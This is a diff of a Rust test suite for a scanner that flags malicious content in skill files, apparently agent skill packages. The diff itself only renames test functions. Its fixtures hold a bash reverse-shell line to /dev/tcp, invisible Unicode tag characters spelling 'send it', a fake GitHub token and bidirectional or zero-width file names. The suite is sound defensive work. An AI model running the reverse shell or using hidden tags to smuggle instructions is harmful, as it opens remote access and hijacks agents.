@@ -35,7 +35,7 @@ const LETTERS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
 
 /// Bad files, with the code, the severity and the line of what must be said about them first.
 #[test]
-fn what_no_honest_skill_contains_is_found() {
+fn malicious_content_is_found() {
     use Severity::{Error, Info, Warning};
     let tag: String =
         "send it".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).unwrap()).collect();
@@ -266,7 +266,7 @@ fn what_no_honest_skill_contains_is_found() {
 
 /// Files that look alike and are fine.
 #[test]
-fn what_honest_skills_contain_is_not() {
+fn legitimate_content_is_not_reported() {
     for (path, text) in [
         ("a.py", "import hashlib\nprint(hashlib.sha256(b'x').hexdigest())\n"),
         ("a.py", "import base64\ndata = base64.b64decode(text)\nexec_time = 1\n"),
@@ -366,7 +366,7 @@ fn what_honest_skills_contain_is_not() {
 }
 
 #[test]
-fn names_and_programs_are_looked_at() {
+fn file_names_and_compiled_programs_are_checked() {
     let found = scanned("in\u{202e}gnp.sh", "echo\n");
     assert_eq!((found[0].code, found[0].severity), ("bidirectional_text", Severity::Error));
     let found = scanned("a\u{200b}.md", "");
@@ -384,7 +384,7 @@ fn names_and_programs_are_looked_at() {
 }
 
 #[test]
-fn the_documentation_has_every_code() {
+fn every_code_is_documented() {
     let text = std::fs::read_to_string(
         Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/scanning.md"),
     )
@@ -398,7 +398,7 @@ fn the_documentation_has_every_code() {
 
 /// The secret itself must not be spread by the message about it.
 #[test]
-fn messages_do_not_repeat_secrets_nor_carry_what_a_terminal_obeys() {
+fn messages_contain_no_secrets_and_no_control_characters() {
     let secret = random(ALNUM, 36);
     let found = scanned("a.py", &format!("t = 'ghp_{secret}'"));
     assert!(!found[0].message.contains(&secret[..8]));
@@ -407,7 +407,7 @@ fn messages_do_not_repeat_secrets_nor_carry_what_a_terminal_obeys() {
 }
 
 #[test]
-fn the_work_and_the_findings_are_bounded() {
+fn scan_time_and_number_of_findings_are_bounded() {
     let lines = "bash -i >& /dev/tcp/10.1.2.3/4444\n".repeat(100_000);
     let files: Vec<_> = (0..100).map(|number| file(&format!("f{number:02}.sh"), &lines)).collect();
     let (findings, peak) = peak_of(|| scan(&files, None));
@@ -435,7 +435,7 @@ fn the_work_and_the_findings_are_bounded() {
 }
 
 #[test]
-fn the_examples_are_clean_but_for_the_thief() {
+fn only_the_malicious_example_has_findings() {
     let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/skills");
     let mut seen = 0;
     for entry in std::fs::read_dir(examples).unwrap() {
